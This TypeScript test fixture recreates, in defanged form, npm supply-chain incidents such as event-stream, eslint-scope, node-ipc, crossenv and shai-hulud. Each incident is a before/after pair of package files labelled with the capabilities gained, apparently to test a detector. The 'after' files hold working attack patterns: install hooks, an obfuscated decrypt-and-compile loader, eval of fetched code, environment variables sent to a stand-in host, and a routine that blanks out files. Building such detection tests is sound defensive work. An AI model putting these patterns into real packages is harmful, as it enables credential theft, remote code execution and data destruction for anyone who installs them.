/**
 * Stand-ins of releases that became known in the registry of npm: where the new code stood and how it was hidden, and none of what it did.
 * No address, name or payload of them is here.
 */

import type { Capability } from '../../../src/model/capability.js';

type Files = Readonly<Record<string, string>>;

export interface Incident {
  readonly name: string;
  readonly before: Files;
  readonly after: Files;
  /** What the release reaches that the one before did not. */
  readonly gains: readonly Capability[];
}

const manifest = (fields: object): string =>
  JSON.stringify({ name: 'stand-in', version: '1.0.0', main: 'index.js', ...fields });

const hex = (text: string): string => Buffer.from(text).toString('hex');

export const INCIDENTS: readonly Incident[] = [
  {
    // A new dependency that decrypts code with a key of its dependent, and compiles it.
    name: 'event-stream and flatmap-stream, 2018',
    before: {
      'package.json': manifest({}),
      'index.js': "const Stream = require('stream'); exports.through = () => new Stream();",
    },
    after: {
      'package.json': manifest({ dependencies: { 'flat-stand-in': '^0.1.0' } }),
      'index.js':
        "const Stream = require('stream'); exports.through = () => new Stream(); exports.flat = require('flat-stand-in');",
      'node_modules/flat-stand-in/package.json': '{"name":"flat-stand-in","main":"index.min.js"}',
      'node_modules/flat-stand-in/index.min.js': `!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("${hex('./test/data')}")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();`,
      'node_modules/flat-stand-in/test/data.js': 'module.exports = [];',
    },
    gains: ['code', 'packages'],
  },
  {
    // A script for each system, started when the package is installed.
    name: 'ua-parser-js, 2021',
    before: { 'package.json': manifest({}), 'index.js': 'exports.parse = (text) => text.split(" ");' },
    after: {
      'package.json': manifest({ scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }),
      'index.js': 'exports.parse = (text) => text.split(" ");',
      'preinstall.js':
        "const { exec } = require('child_process'); const os = require('os'); const name = os.platform(); if (name === 'linux') { const t = exec('sh preinstall.sh'); t.stdout.on('data', () => 0); } else if (name === 'win32') exec('cmd.exe', ['/c', 'preinstall.bat']);",
      'preinstall.sh': 'true',
      'preinstall.bat': 'rem',
    },
    gains: ['process', 'code', 'install'],
  },
  {
    // The same behind names that a tool made, in a file of one line.
    name: 'coa and rc, 2021',
    before: { 'package.json': manifest({}), 'index.js': 'exports.a = 1;' },
    after: {
      'package.json': manifest({ scripts: { preinstall: 'start /B node compile.js & node compile.js' } }),
      'index.js': 'exports.a = 1;',
      'compile.js':
        "const _0x1=['platform','exec','child_process','win32','linux'];function _0x2(a){return _0x1[a-0x10];}const {exec:_0x3}=require(_0x2(0x12)),_0x4=require('os');const _0x5=_0x4[_0x2(0x10)]();if(_0x5==_0x2(0x13))_0x3('compile.bat');",
      'compile.bat': 'rem',
    },
    gains: ['install', 'code'],
  },
  {
    // A file that is run at installing reads the token of the registry's client, and sends it away.
    name: 'eslint-scope, 2018',
    before: { 'package.json': manifest({}), 'index.js': 'exports.analyze = (tree) => tree;' },
    after: {
      'package.json': manifest({ scripts: { postinstall: 'node ./lib/build.js' } }),
      'index.js': 'exports.analyze = (tree) => tree;',
      'lib/build.js':
        "try{var https=require('https');https.get({hostname:'stand-in.invalid',path:'/raw'},(r)=>{r.setEncoding('utf8');r.on('data',(c)=>{eval(c);});r.on('error',()=>{});}).on('error',()=>{});}catch(e){}",
    },
    gains: ['network', 'code', 'install'],
  },
  {
    // A module of the dependency asks where it is, and writes over files.
    name: 'node-ipc, 2022',
    before: { 'package.json': manifest({}), 'index.js': 'exports.connect = () => 1;' },
    after: {
      'package.json': manifest({}),
      'index.js': "require('./dao/ssl-geospec.js'); exports.connect = () => 1;",
      'dao/ssl-geospec.js':
        'import u from"path";import a from"fs";import o from"https";setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1)return;const n=Buffer.from("aHR0cHM6Ly9zdGFuZC1pbi5pbnZhbGlk","base64");o.get(n.toString("utf8"),function(t){t.on("data",function(t){const n=Buffer.from("Li8=","base64");h(n.toString("utf8"))})})},Math.ceil(Math.random()*1e3));async function h(n="",o=""){if(!a.existsSync(n))return;let r=[];try{r=a.readdirSync(n)}catch(t){}const f=[];for(var e=0;e<r.length;e++){const i=u.join(n,r[e]);f.push(a.writeFile(i,"",function(){}))}return f}',
    },
    gains: ['fs-read', 'fs-write', 'network'],
  },
  {
    // A loop that never ends and prints. It reaches nothing, so that nothing of this kind is to be found: what is new is the environment.
    name: 'colors, 2022',
    before: { 'package.json': manifest({}), 'index.js': 'exports.red = (text) => text;' },
    after: {
      'package.json': manifest({}),
      'index.js':
        "exports.red = (text) => text; const am = require('./lib/custom/american'); am(); for (let i = 666; i < 667; i++) { if (i % 333) { } if (process.env.STAND_IN) console.log('testing'); }",
      'lib/custom/american.js': "module['exports'] = function american() { console.log('LIBERTY'); };",
    },
    gains: ['environment'],
  },
  {
    // A name like another's; its install script sends the environment.
    name: 'crossenv, 2017',
    before: { 'package.json': manifest({}), 'index.js': 'exports.run = (words) => words;' },
    after: {
      'package.json': manifest({ scripts: { postinstall: 'node package-setup.js' } }),
      'index.js': 'exports.run = (words) => words;',
      'package-setup.js':
        "const http = require('http'); const querystring = require('querystring'); const host = 'stand-in.invalid'; const env = JSON.stringify(process.env); const data = Buffer.from(env).toString('base64'); const body = querystring.stringify({ data }); const request = http.request({ hostname: host, method: 'POST' }); request.write(body); request.end();",
    },
    gains: ['network', 'environment', 'install'],
  },
  {
    // An install script looks for files of wallets and keys, and has tools on the machine look for more.
    name: 'nx and s1ngularity, 2025',
    before: { 'package.json': manifest({ scripts: {} }), 'index.js': 'exports.graph = () => [];' },
    after: {
      'package.json': manifest({ scripts: { postinstall: 'node telemetry.js' } }),
      'index.js': 'exports.graph = () => [];',
      'telemetry.js':
        "#!/usr/bin/env node\nconst { spawnSync } = require('child_process'); const os = require('os'); const fs = require('fs'); const path = require('path'); const https = require('https'); if (process.platform === 'win32') process.exit(0); const result = { env: process.env, hostname: os.hostname(), files: [] }; const cli = (name) => spawnSync('which', [name]); for (const name of ['a', 'b']) cli(name); for (const name of ['.profile-stand-in']) { const at = path.join(os.homedir(), name); if (fs.existsSync(at)) fs.appendFileSync(at, ''); } const request = https.request({ method: 'POST' }); request.end(JSON.stringify(result));",
    },
    gains: ['fs-read', 'fs-write', 'process', 'network', 'environment', 'install'],
  },
  {
    // A worm: a bundle that is started at installing, with programs and accounts of whoever installs.
    name: 'shai-hulud, 2025',
    before: { 'package.json': manifest({}), 'index.js': 'exports.tint = (x) => x;' },
    after: {
      'package.json': manifest({ scripts: { postinstall: 'node bundle.js' } }),
      'index.js': 'exports.tint = (x) => x;',
      'bundle.js':
        'import{createRequire as __WEBPACK_EXTERNAL_createRequire}from"node:module";var e={1:(m)=>{m.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("child_process")},2:(m)=>{m.exports=__WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs")}};var t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var a=t[n]={exports:{}};e[n](a,a.exports,r);return a.exports}const{execSync:x}=r(1);const f=r(2);f.writeFileSync("/tmp/stand-in.sh","");x("true");fetch("https://stand-in.invalid",{body:JSON.stringify(process.env)});',
    },
    gains: ['process', 'network', 'environment', 'install'],
  },
  {
    // The functions of a page that ask the network, and the wallet's, are wrapped, so that addresses can be changed on the way.
    name: 'chalk and debug, 2025',
    before: { 'package.json': manifest({}), 'index.js': 'exports.red = (text) => text;' },
    after: {
      'package.json': manifest({}),
      'index.js':
        "exports.red = (text) => text;\nconst _0x112fa8=_0x180f;function _0x180f(a,b){return _0x550b()[a-0x10]}function _0x550b(){return ['fetch','ethereum','request','prototype','open']}async function checkethereumw(){try{const e=await window.ethereum.request({method:'eth_accounts'});e.length>0&&runmask()}catch(e){}newdlocal()}typeof window!='undefined'&&typeof window.ethereum!='undefined'?checkethereumw():newdlocal();function runmask(){}function newdlocal(){if(typeof fetch==='undefined')return;const o=fetch;fetch=async function(...args){const r=await o(...args);return r};if(typeof window!='undefined'){const p=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(){return p.apply(this,arguments)};window[_0x112fa8(0x10)]=fetch}}",
    },
    gains: ['network'],
  },
];
